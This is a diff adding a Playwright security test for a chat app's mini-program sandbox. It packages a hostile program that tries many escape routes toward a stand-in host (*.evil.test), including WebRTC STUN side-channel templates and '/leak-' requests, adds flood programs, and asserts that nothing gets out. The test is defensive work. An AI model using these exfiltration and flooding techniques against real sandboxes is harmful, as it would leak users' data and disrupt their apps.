@@ -1,0 +1,444 @@
+/**
+ * Hostile mini programs in a real browser (docs/spec/programs.md PR10, PR11, PR14): each way out and each wish of
+ * hostile-ways.ts, tried where a program's code runs and in what draws it, with the browser's own log of its network;
+ * floods, with how long the app's page did not answer; and programs that are used and say nothing to anybody. What it
+ * prints is judged by the evidence. `npm run evidence -- --whole` plays all of it, and `npm test` a part.
+ */
+import { createSocket } from "node:dgram";
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { type Browser, expect, type Page, test } from "@playwright/test";
+import { packProgram } from "@yanshu/mini/compile";
+import { orchard, orchardAbout } from "@yanshu/mini/testkit";
+import { BrowserSetup, phone } from "./browser-setup.ts";
+import { floods } from "./hostile-floods.ts";
+import { waysByDrawing, waysOut, waysOutOfWorker, wishes } from "./hostile-ways.ts";
+import { goes, home, shot } from "./people.ts";
+import { sends, sourcesOf } from "./program-hands.ts";
+
+const isWhole = process.env["YANSHU_PROGRAMS"] === "whole";
+const evilHost = "127.0.0.2";
+/** What each says of itself, and no more than that: nobody learns anything by it. */
+const harmless = ["origin", "isolated", "sabThere"];
+/** What is judged by another page than its own cannot be tried by a frame of a plain page. */
+const controls = Object.entries(waysOut).filter(([name]) => !/top|parent/i.test(name));
+
+let setup: BrowserSetup;
+let browser: Browser;
+let mum: Page;
+let folder: string;
+const evil = { http: [] as string[], port: 0 };
+const asked = createServer(({ url = "" }, answer) => {
+  const way = /^\/plain\/(\w+)$/.exec(url)?.[1];
+  if (way === undefined) evil.http.push(url.slice(1));
+  answer.setHeader("access-control-allow-origin", "*");
+  answer.setHeader("content-type", "text/html");
+  answer.end(way === undefined ? "" : plainPage(way));
+});
+asked.on("upgrade", ({ url = "" }, socket) => {
+  evil.http.push(url.slice(1));
+  socket.destroy();
+});
+const stun = createSocket("udp4");
+let datagrams = 0;
+stun.on("message", () => {
+  datagrams += 1;
+});
+
+test.describe.configure({ mode: "serial" });
+
+test.beforeAll(async ({ playwright }) => {
+  test.setTimeout(120_000);
+  folder = mkdtempSync(join(tmpdir(), "yanshu-hostile-"));
+  await new Promise<void>((resolve) => asked.listen(0, evilHost, resolve));
+  evil.port = (asked.address() as AddressInfo).port;
+  await new Promise<void>((resolve) => stun.bind(0, evilHost, resolve));
+  const { launchOptions } = test.info().project.use;
+  browser = await playwright.chromium.launch({
+    ...launchOptions,
+    args: [
+      ...(launchOptions?.args ?? []),
+      `--log-net-log=${join(folder, "net.json")}`,
+      `--host-resolver-rules=MAP *.evil.test ${evilHost}`,
+    ],
+    // With this one a test's browser does not connect ahead, as people's browsers do.
+    ignoreDefaultArgs: ["--disable-background-networking"],
+  });
+  setup = await BrowserSetup.start(browser);
+  const context = await browser.newContext({ viewport: phone.size, locale: phone.locale, reducedMotion: "reduce" });
+  mum = await context.newPage();
+  mum.on("websocket", (socket) => socket.on("framesent", ({ payload }) => frames.push(nameOf(Buffer.from(payload)))));
+  await setup.settle(mum, "妈妈");
+  await toHerself();
+});
+
+test.afterAll(async () => {
+  await browser?.close();
+  await setup?.close();
+  asked.close();
+  stun.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+/** Frames that her page and its workers sent to home, by the name of a call (packages/wire/src/frames.ts). */
+const frames: string[] = [];
+const nameOf = (frame: Buffer) => frame.subarray(6, 6 + (frame[5] ?? 0)).toString("latin1");
+
+/** Her own notes, into which she sends programs. */
+async function toHerself(): Promise<void> {
+  await home(mum);
+  await mum.getByTestId("tab-contacts").click();
+  await mum.getByTestId("own").click();
+}
+
+const room = () => mum.frameLocator("[data-testid=program-frame]");
+
+async function opens(name: string, bytes: Uint8Array): Promise<void> {
+  await sends(mum, `${name}.ymp`, bytes);
+  await opensAgain(name);
+}
+
+async function opensAgain(name: string): Promise<void> {
+  await mum.getByTestId("program-card").filter({ hasText: name }).last().getByTestId("program-open").click();
+}
+
+/** Words before each way: where it shall ask, and what it may use. `prefix` tells who asked. */
+function addresses(name: string, prefix: string): string {
+  const called = `${prefix}-${name}`.toLowerCase();
+  const { port } = stun.address();
+  return `var E='http://${called}.evil.test:${evil.port}/${called}',D='${called}.dns.test';
+function RTC(w){var p=new w.RTCPeerConnection({iceServers:[{urls:'stun:${evilHost}:${port}'},{urls:'stun:'+D+':3478'}]});p.createDataChannel('x');p.createOffer().then(function(o){return p.setLocalDescription(o)});w.__p=p}
+function RTCD(w){var p=new w.RTCPeerConnection({iceServers:[{urls:'stun:'+D+':3478'}]});p.createDataChannel('x');p.createOffer().then(function(o){return p.setLocalDescription(o)});w.__p=p}`;
+}
+
+/** A page as anybody may have one: no policy, no sandbox. */
+function plainPage(way: string): string {
+  const code = waysOut[way] ?? "";
+  const script = `${addresses(way, "plain")};(async()=>{try{${code}}catch(e){}})()`;
+  return `<!doctype html><meta charset=utf-8><body><script>${script.replaceAll("</script", "<\\/script")}</script>`;
+}
+
+/** A program that tries everything when it is opened, once against the evil server and once against home itself. */
+async function hostile(): Promise<Uint8Array> {
+  const ways = { ...waysOut, ...waysOutOfWorker, ...waysByDrawing };
+  const tries = (prefix: string, of: Readonly<Record<string, string>>) =>
+    Object.entries(of).map(([name, code]) => {
+      const toHome = `var E=${JSON.stringify(`${setup.origin}/leak-${name.toLowerCase()}`)};`;
+      const before = `${addresses(name, prefix)};${prefix === "home" ? toHome : ""}`;
+      return `[${JSON.stringify(name)},async function(){${before}try{${code}}catch(e){throw e}}]`;
+    });
+  const script = `var G=(function(){return this})(),self=G,globalThis=G,fetch=G.fetch,XMLHttpRequest=G.XMLHttpRequest,
+WebSocket=G.WebSocket,navigator=G.navigator,location=G.location,indexedDB=G.indexedDB,caches=G.caches,document=G.document,
+window=G.window,parent=G.parent,top=G.top,opener=G.opener,localStorage=G.localStorage,sessionStorage=G.sessionStorage,
+importScripts=G.importScripts,history=G.history,postMessage=G.postMessage;
+var at=900000;
+function A(tag,set,style){at+=1;var ops=[['element',at,tag]];for(var k in set)ops.push(['set',at,k,set[k]]);
+if(style||set.style)ops.push(['style',at,style||set.style]);ops.push(['append',1,at]);
+for(var p=1;p<9;p++)ops.push(['append',p,at]);G.postMessage({kind:'ops',ops:ops})}
+var out=[${[...tries("evil", ways), ...tries("home", ways)].join(",\n")}];
+var wish=[${tries("evil", wishes).join(",\n")}];
+Page({data:{said:''},onLoad:async function(){var page=this,got=[],ran=0;
+for(var i=0;i<out.length;i++){try{out[i][1]().catch(function(){});ran++}catch(e){};if(i%20===0)await new Promise(function(r){setTimeout(r,120)})}
+await Promise.all(wish.map(function(w){return Promise.race([w[1](),new Promise(function(_,b){setTimeout(function(){b(new Error('silent'))},1200)})]).then(function(v){if(v!==undefined)got.push(w[0])},function(){})}));
+page.setData({said:'tried '+out.length+' and '+wish.length+', got '+got.sort().join(' ')})}})`;
+  const page = { "pages/a/a.wxml": "<view>{{said}}</view>", "pages/a/a.js": script };
+  return (await packProgram(sourcesOf({ "app.json": '{ "pages": ["pages/a/a"] }', ...page }), about("坏"))).bytes;
+}
+
+/** What an app of webxdc has of its own, laid in place of what an origin of nobody's has not; and what harms nobody. */
+const ownOfApp = [
+  ...harmless,
+  "localStorage",
+  "sessionStorage",
+  "indexedDB",
+  "cookieRead",
+  "cookieWrite",
+  "evalThere",
+  "ancestorOrigins",
+  "historyHash",
+  "historyBack",
+  "measureUa",
+  "alert",
+  // Of its parent's frames it is the only one.
+  "siblings",
+];
+
+/**
+ * Each way and each wish as an app of webxdc of its own, in the page that draws them, with the headers that home sends.
+ *
+ * @returns wishes that came true.
+ */
+async function triesAsWebxdc(names: readonly string[]): Promise<readonly string[]> {
+  const all: Readonly<Record<string, string>> = { ...waysOut, ...wishes };
+  const cases = names.map((name) => {
+    const body =
+      name in wishes
+        ? `const v=await (async()=>{${all[name]}})();if(v!==undefined)webxdc.sendUpdate({payload:'got'})`
+        : all[name];
+    const script = `${addresses(name, "app")};(async()=>{try{${body}}catch(e){}})()`;
+    return [
+      name,
+      `<!doctype html><body><script>${script.replaceAll("</script", "<\\/script")}</script></body>`,
+    ] as const;
+  });
+  return mum.evaluate(async (tries) => {
+    const got: string[] = [];
+    async function plays([name, html]: readonly [string, string]): Promise<void> {
+      const frame = document.createElement("iframe");
+      const files = new Map([["index.html", new TextEncoder().encode(html)]]);
+      const channel = new MessageChannel();
+      channel.port1.onmessage = ({ data }) => {
+        if (data.kind === "frame")
+          channel.port1.postMessage({
+            kind: "begin",
+            files,
+            page: "index.html",
+            stored: {},
+            self: { address: "0", name: "" },
+          });
+        else if (data.kind === "share") got.push(name);
+      };
+      const meet = ({ source, data }: MessageEvent) => {
+        if (source !== frame.contentWindow || data?.kind !== "frame") return;
+        window.removeEventListener("message", meet);
+        frame.contentWindow?.postMessage({ kind: "port" }, "*", [channel.port2]);
+      };
+      window.addEventListener("message", meet);
+      frame.src = "/mini/webxdc.html";
+      document.body.append(frame);
+      await new Promise((resolve) => setTimeout(resolve, 1_500));
+      frame.remove();
+      channel.port1.close();
+    }
+    for (let at = 0; at < tries.length; at += 8) await Promise.all(tries.slice(at, at + 8).map(plays));
+    return got;
+  }, cases);
+}
+
+const about = (name: string) => ({ name, version: "1" });
+
+/** Five programs as people use them. Each counts what was tapped, in its own way. */
+const used: Readonly<Record<string, string>> = {
+  数: "page.setData({said:String(n)})",
+  记: "wx.setStorageSync('n',n);page.setData({said:String(wx.getStorageSync('n'))})",
+  列: "list.push(n);page.setData({list:list,said:String(list.length)})",
+  问: "wx.request({url:'https://example.test/'+n,fail:function(){page.setData({said:String(n)})}})",
+  题: "wx.setNavigationBarTitle({title:'第'+n});wx.showToast({title:'第'+n});wx.login({});page.setData({said:String(n)})",
+};
+
+async function counting(name: string, code: string): Promise<Uint8Array> {
+  const script = `var n=0,list=[];Page({data:{said:'0',list:[]},tap:function(){var page=this;n+=1;${code}}})`;
+  const markup =
+    '<view class="said">{{said}}</view><button bindtap="tap">点</button><view wx:for="{{list}}" wx:key="*this">{{item}}</view>';
+  const page = { "pages/a/a.wxml": markup, "pages/a/a.js": script };
+  return (await packProgram(sourcesOf({ "app.json": '{ "pages": ["pages/a/a"] }', ...page }), about(name))).bytes;
+}
+
+/** What the app asks home by its clock, whatever is done: the vault takes letters some fifteen seconds later. */
+const ofItself = ["vaultAppend", "homeState"];
+
+test("[PR8] [PR10] R4.2 programs: five that are used ask nobody for anything, and home hears nothing of it", async () => {
+  test.setTimeout(180_000);
+  const [some, actions] = isWhole ? [Object.entries(used), 100] : [Object.entries(used).slice(1, 3), 30];
+  frames.length = 0;
+  for (const [name, code] of some) await opensOnce(name, await counting(name, code));
+  await isUp();
+  const requests: string[] = [];
+  const sent: string[] = [];
+  let isUsed = false;
+  // The app loads its own files ahead, whatever is done.
+  mum.on("request", (request) => {
+    if (isUsed && !request.url().startsWith(`${setup.origin}/assets/`)) requests.push(request.url());
+  });
+  for (const [name] of some) {
+    await opensAgain(name);
+    await expect(room().locator(".said")).toBeVisible();
+    const frame = await (await mum.getByTestId("program-frame").elementHandle())?.contentFrame();
+    frames.length = 0;
+    isUsed = true;
+    await frame?.evaluate(async (count) => {
+      for (let at = 0; at < count; at += 1) {
+        document.querySelector<HTMLElement>("wx-button")?.click();
+        await new Promise((resolve) => setTimeout(resolve, 25));
+      }
+    }, actions);
+    await expect(room().locator(".said")).toHaveText(`${actions}`);
+    await mum.getByTestId("program-close").click();
+    isUsed = false;
+    sent.push(...frames.filter((name) => !ofItself.includes(name)));
+  }
+  await goes(mum, "/scan");
+  frames.length = 0;
+  await mum.getByTestId("paste-link").fill("@nobody-here");
+  await mum.getByTestId("open-link").click();
+  await expect.poll(() => frames.length).toBeGreaterThan(0);
+  await toHerself();
+  console.log(
+    `R4.2 programs: ${some.length} programs, ${actions} actions each, ${requests.length} requests, ${sent.length} frames to home; a question to home: ${frames.length}`,
+  );
+  expect({ requests, sent }).toEqual({ requests: [], sent: [] });
+});
+
+/** What was sent has gone up: room was asked for, and two looks find that no frame went to home in between. */
+async function isUp(): Promise<void> {
+  await expect.poll(() => frames, { timeout: 30_000 }).toContain("blobTokens");
+  let before = -1;
+  await expect
+    .poll(
+      () => {
+        const isSame = frames.length === before;
+        before = frames.length;
+        return isSame;
+      },
+      { intervals: [1_500], timeout: 30_000 },
+    )
+    .toBe(true);
+}
+
+/** Opened, so that its package is here, and closed again. */
+async function opensOnce(name: string, bytes: Uint8Array): Promise<void> {
+  await opens(name, bytes);
+  await expect(room().locator(".said")).toBeVisible();
+  await mum.getByTestId("program-close").click();
+}
+
+async function flooding(): Promise<Uint8Array> {
+  const cases = Object.entries(floods).map(([name, code]) => `${JSON.stringify(name)}:function(page){${code}}`);
+  const script = `var G=(function(){return this})(),setInterval=G.setInterval;
+var long='很长的话'.repeat(120),large='大'.repeat(300000);
+function every(n,f){var i=0;setInterval(function(){for(var k=0;k<n/20||k<1;k++)f(i++)},n<20?1000/n:50)}
+var all={${cases.join(",\n")}};
+Page({data:{list:[],style:''},tap:function(e){all[e.currentTarget.dataset.name](this)}})`;
+  const buttons = Object.keys(floods).map((name) => `<button data-name="${name}" bindtap="tap">${name}</button>`);
+  const markup = `<view style="{{style}}">满</view>${buttons.join("")}<view wx:for="{{list}}" wx:key="*this">{{item}}</view>`;
+  const page = { "pages/a/a.wxml": markup, "pages/a/a.js": script };
+  return (await packProgram(sourcesOf({ "app.json": '{ "pages": ["pages/a/a"] }', ...page }), about("洪水"))).bytes;
+}
+
+/** The longest time in which the app's page ran nothing, since it was asked last. */
+function longestMs(): Promise<number> {
+  return mum.evaluate(() => {
+    const page = window as unknown as { longest?: number; beats?: number; last: number };
+    if (page.longest === undefined) {
+      page.last = performance.now();
+      setInterval(() => {
+        const now = performance.now();
+        page.longest = Math.max(page.longest ?? 0, now - page.last);
+        page.last = now;
+      }, 5);
+    }
+    const longest = page.longest ?? 0;
+    page.longest = 0;
+    return Math.round(longest);
+  });
+}
+
+test("[PR11] [PR14] R5.5 floods: whatever a program floods, the app answers, and closes it", async () => {
+  test.setTimeout(600_000);
+  const names = isWhole ? Object.keys(floods) : ["asked", "messages"];
+  const [tries, ms] = isWhole ? [3, 2_000] : [1, 800];
+  const longest: Record<string, number> = {};
+  await opens("洪水", await flooding());
+  for (const name of names)
+    for (let at = 0; at < tries; at += 1) {
+      if (!(await mum.getByTestId("program").isVisible())) await opensAgain("洪水");
+      const button = room().getByText(name, { exact: true });
+      await expect(button).toBeVisible({ timeout: 20_000 });
+      await longestMs();
+      await button.click();
+      await mum.waitForTimeout(ms);
+      longest[name] = Math.min(longest[name] ?? Number.POSITIVE_INFINITY, await longestMs());
+      const [stop, close] = [mum.getByTestId("program-stop"), mum.getByTestId("program-close")];
+      if (await stop.isVisible()) await stop.click({ timeout: 5_000 });
+      else await close.click({ timeout: 5_000 });
+      await expect(mum.getByTestId("program")).toHaveCount(0);
+    }
+  const worst = Object.entries(longest).sort(([, one], [, other]) => other - one);
+  console.log(
+    `R5.5 floods: ${names.length} floods, ${tries} tries, longest ${worst[0]?.[1]} ms (${worst.map(([name, one]) => `${name} ${one}`).join(", ")})`,
+  );
+});
+
+if (isWhole)
+  test("[PR12] R5.5 large: a package as large as one may be opens after all that", async () => {
+    test.setTimeout(240_000);
+    const picture = new Uint8Array(19 << 20);
+    for (let at = 0; at < picture.length; at += 65_536) crypto.getRandomValues(picture.subarray(at, at + 65_536));
+    const sources = orchard();
+    sources.set("large.png", picture);
+    const { bytes } = await packProgram(sources, { ...orchardAbout, name: "大果园" });
+    await sends(mum, "大果园.ymp", bytes);
+    await longestMs();
+    const since = Date.now();
+    await opensAgain("大果园");
+    await expect(room().getByText("果园 · 第1次")).toBeVisible({ timeout: 120_000 });
+    console.log(
+      `R5.5 large: ${bytes.length} bytes opened in ${Date.now() - since} ms, longest ${await longestMs()} ms`,
+    );
+    await mum.getByTestId("program-close").click();
+  });
+
+test("[PR10] [PR31] R5.5 programs: everything that a hostile program tries reaches nobody, and reads nothing of ours", async () => {
+  test.setTimeout(240_000);
+  const [before, foreign] = [datagrams, [] as string[]];
+  mum.on("framenavigated", (frame) => {
+    if (frame.url() !== "about:blank" && !frame.url().startsWith(setup.origin)) foreign.push(frame.url());
+  });
+  await opens("坏", await hostile());
+  const said = room().getByText(/^tried /);
+  await expect(said).toBeVisible({ timeout: 60_000 });
+  const words = (await said.textContent()) ?? "";
+  const got = (words.split("got ")[1] ?? "").split(" ").filter((name) => name !== "" && !harmless.includes(name));
+  await shot(mum, "hostile-program");
+  await mum.getByTestId("program-close").click();
+  expect(foreign).toEqual([]);
+  expect(mum.context().pages()).toHaveLength(1);
+  const tried = Object.keys({ ...waysOut, ...wishes }).filter((_, at) => isWhole || at % 24 === 0);
+  const taken = (await triesAsWebxdc(tried)).filter((name) => !ownOfApp.includes(name));
+  await expect(mum.getByTestId("conversation")).toBeVisible();
+  const outside = { http: [...evil.http], datagrams: datagrams - before };
+
+  const plain = await (await browser.newContext()).newPage();
+  await plain.goto(`http://${evilHost}:${evil.port}/`);
+  const some = isWhole ? controls : controls.filter((_, at) => at % 6 === 0);
+  await plain.evaluate(
+    async (names) => {
+      const ended = (frame: HTMLIFrameElement) =>
+        new Promise((resolve) => setTimeout(resolve, 900)).then(() => frame.remove());
+      for (let at = 0; at < names.length; at += 12)
+        await Promise.all(
+          names.slice(at, at + 12).map((name) => {
+            const frame = document.createElement("iframe");
+            frame.src = `/plain/${name}`;
+            document.body.append(frame);
+            return ended(frame);
+          }),
+        );
+    },
+    some.map(([name]) => name),
+  );
+  // The log is whole once the browser has ended.
+  await browser.close();
+  const log = readFileSync(join(folder, "net.json"), "utf8");
+  const seen = (prefix: string, name: string) =>
+    new RegExp(`[^a-z]${prefix}-${name}\\.(?:evil|dns)\\.test`, "i").test(log) ||
+    evil.http.includes(`${prefix}-${name}`.toLowerCase());
+  const ways = Object.keys({ ...waysOut, ...waysOutOfWorker, ...waysByDrawing });
+  const through = ways.filter((name) => seen("evil", name.toLowerCase()));
+  const atHome = ways.filter((name) => log.includes(`/leak-${name.toLowerCase()}`));
+  const shown = some.filter(([name]) => seen("plain", name));
+  const appsThrough = tried.filter((name) => seen("app", name));
+  console.log(
+    `R5.5 webxdc: ${tried.length} ways and wishes, ${appsThrough.length} names (${appsThrough.join(" ")}), ${taken.length} got (${taken.join(" ")})`,
+  );
+  console.log(
+    `R5.5 programs: ${ways.length} ways, ${through.length} out (${through.join(" ")}), ${atHome.length} to home (${atHome.join(" ")}), ${outside.datagrams} datagrams; ${Object.keys(wishes).length} wishes, ${got.length} got (${got.join(" ")}); a plain page: ${shown.length} of ${some.length} out`,
+  );
+  expect(outside).toEqual({ http: [], datagrams: 0 });
+  expect(taken).toEqual([]);
+  expect({ through, atHome, got }).toEqual({ through: [], atHome: [], got: [] });
+  expect(shown.length).toBeGreaterThan(some.length / 2);
+});
